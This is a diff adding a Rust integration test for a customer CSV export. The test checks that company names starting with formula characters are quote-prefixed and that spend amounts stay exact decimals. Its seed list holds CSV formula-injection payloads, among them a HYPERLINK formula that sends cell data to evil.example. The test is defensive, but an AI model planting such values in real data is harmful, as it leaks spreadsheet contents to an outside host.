@@ -217,6 +217,50 @@ async fn a_name_with_a_comma_and_quotes_stays_one_field() {
     );
 }
 
+/// Security finding 3: names starting with `=`, `+`, `-`, `@`, tab or CR were exported
+/// verbatim, so a spreadsheet would run them as formulas.
+#[tokio::test]
+async fn formula_like_names_are_neutralised_and_amounts_stay_exact() {
+    let app = spawn_app().await;
+    app.sign_in_and_load(READER).await;
+    let all = customers(&app).await;
+    let attacks = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Zformula\")",
+        "+Zformula+1",
+        "-Zformula-1",
+        "@Zformula(A1)",
+        "\tZformula",
+        "\rZformula",
+    ];
+    for (customer, name) in all.iter().zip(attacks) {
+        let mut customer = customer.clone();
+        customer.company_name = name.to_owned();
+        app.store().upsert_snapshots(&[customer]).await.unwrap();
+    }
+
+    let csv = get_csv(&app, "/customers.csv?q=zformula", "customers-").await;
+    assert_eq!(csv.rows.len(), attacks.len());
+    for row in &csv.rows {
+        let name = &row["company_name"];
+        assert!(
+            name.starts_with('\'') && attacks.contains(&&name[1..]),
+            "neutralised: {name:?}"
+        );
+        let spend = &row["spend"];
+        assert!(!spend.starts_with('\''), "{spend}");
+        Decimal::from_str(spend).expect("an exact decimal");
+    }
+    let subscriptions = get_csv(
+        &app,
+        &format!("/customers/{}/subscriptions.csv", all[0].customer_id),
+        "subscriptions-",
+    )
+    .await;
+    for row in &subscriptions.rows {
+        assert_eq!(row["company_name"], format!("'{}", attacks[0]));
+    }
+}
+
 #[tokio::test]
 async fn a_customers_subscriptions_csv_matches_the_sandbox_without_opening_the_customer_first() {
     let app = spawn_app().await;
